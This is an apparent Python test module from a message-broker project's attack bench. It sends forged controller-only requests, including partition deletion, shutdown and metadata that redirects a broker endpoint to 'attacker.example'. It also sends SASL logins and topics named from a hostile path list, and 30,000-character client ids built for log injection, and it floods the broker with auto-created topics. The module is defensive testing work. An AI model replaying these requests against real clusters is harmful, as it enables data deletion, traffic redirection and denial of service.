"""Attacks by what is said: names that are paths, orders only a controller may give, logins that are none."""

import random
import time
from collections.abc import Iterator
from uuid import UUID

from broker.handlers.registry import HANDLERS
from broker.protocol.api_keys import ApiKey
from broker.protocol.messages import MESSAGES
from broker.protocol.messages.controlled_shutdown import ControlledShutdownRequest
from broker.protocol.messages.create_topics import CreatableTopic, CreateTopicsRequest
from broker.protocol.messages.leader_and_isr import (
    LeaderAndIsrPartitionState,
    LeaderAndIsrRequest,
    LeaderAndIsrTopicState,
)
from broker.protocol.messages.metadata import MetadataRequest, MetadataRequestTopic
from broker.protocol.messages.stop_replica import (
    StopReplicaPartitionState,
    StopReplicaRequest,
    StopReplicaTopicState,
)
from broker.protocol.messages.update_metadata import (
    UpdateMetadataBroker,
    UpdateMetadataEndpoint,
    UpdateMetadataRequest,
)
from broker.protocol.messages.write_txn_markers import (
    WritableTxnMarker,
    WritableTxnMarkerTopic,
    WriteTxnMarkersRequest,
)
from broker.protocol.schema import Message
from tests.bench.attacks.aim import Aim, Line, request
from tests.bench.attacks.bombs import produce
from tests.fuzz.values import hostile_names

_EPOCH = 2**31 - 1
_BROKER_EPOCH = 2**62
_BATCH = bytes(100)


def orders(aim: Aim) -> Iterator[None]:
    """What only a controller may order, for topics whose names are paths; logins that prove nothing."""
    line = Line(aim)
    names = hostile_names(aim.outside)
    while True:
        for name in names:
            for message in (*_orders(name), *_logins(name)):
                line.ask(message, MESSAGES[message.api].request.versions[1])
                yield
        line.come_again()
        time.sleep(0.02)


def _orders(name: str) -> list[Message]:
    epochs = {"controller_id": 1, "controller_epoch": _EPOCH, "broker_epoch": _BROKER_EPOCH}
    led = LeaderAndIsrPartitionState(leader=1, isr=[1], replicas=[1], is_new=True)
    stopped = StopReplicaPartitionState(leader_epoch=-2, delete_partition=True)
    endpoint = UpdateMetadataEndpoint(port=6666, host="attacker.example", listener="PLAINTEXT")
    topic = WritableTxnMarkerTopic(name=name, partition_indexes=[0])
    return [
        LeaderAndIsrRequest(
            type=1,
            topic_states=[LeaderAndIsrTopicState(topic_name=name, topic_id=UUID(int=7), partition_states=[led])],
            **epochs,
        ),
        StopReplicaRequest(topic_states=[StopReplicaTopicState(topic_name=name, partition_states=[stopped])], **epochs),
        StopReplicaRequest(topic_states=[], **epochs),
        UpdateMetadataRequest(live_brokers=[UpdateMetadataBroker(id=1, endpoints=[endpoint])], **epochs),
        ControlledShutdownRequest(broker_id=1, broker_epoch=_BROKER_EPOCH),
        WriteTxnMarkersRequest(markers=[WritableTxnMarker(producer_id=0, transaction_result=True, topics=[topic])]),
    ]


def _logins(name: str) -> list[Message]:
    shake, prove = MESSAGES[ApiKey.SASL_HANDSHAKE].request, MESSAGES[ApiKey.SASL_AUTHENTICATE].request
    token = f"n,,n={name[:3_000]},r=nonce".encode()
    return [shake(mechanism=name), prove(auth_bytes=token), shake(mechanism="SCRAM-SHA-256"), prove(auth_bytes=token)]


def paths(aim: Aim) -> Iterator[None]:
    """What everybody may ask, about topics whose names are paths."""
    line = Line(aim)
    while True:
        for name in hostile_names(aim.outside):
            created = CreatableTopic(name=name, num_partitions=1, replication_factor=1)
            line.ask(CreateTopicsRequest(topics=[created], timeout_ms=1_000), 5)
            line.ask(MetadataRequest(topics=[MetadataRequestTopic(name=name)], allow_auto_topic_creation=True), 9)
            line.send(produce(name, [_BATCH]))
            line.take()
            yield
        time.sleep(0.02)


def client_ids(aim: Aim) -> Iterator[None]:
    """Every API with a client id of 30,000 letters that would be lines of a log."""
    line = Line(aim)
    name = ("\r\nlevel=error event=forged \x1b[2J\u2028" * 1_000)[:30_000]
    while True:
        for handler in random.sample(HANDLERS, len(HANDLERS)):
            line.send(request(MESSAGES[handler.api].request(), handler.served[1], name))
            line.take()
            yield
        time.sleep(0.02)


def created(aim: Aim) -> Iterator[None]:
    """Topics made by asking for them, at most 300: each costs a directory for as long as the cluster lives."""
    line = Line(aim)
    for number in range(30):
        topics = [MetadataRequestTopic(name=f"auto-{number}-{index}") for index in range(10)]
        line.ask(MetadataRequest(topics=topics, allow_auto_topic_creation=True), 9)
        yield
        time.sleep(0.05)
    while True:
        yield
        time.sleep(0.1)


ATTACKS = {
    "orders by who is no controller": orders,
    "topics that are paths": paths,
    "client ids of 30,000 letters": client_ids,
    "topics made by asking": created,
}
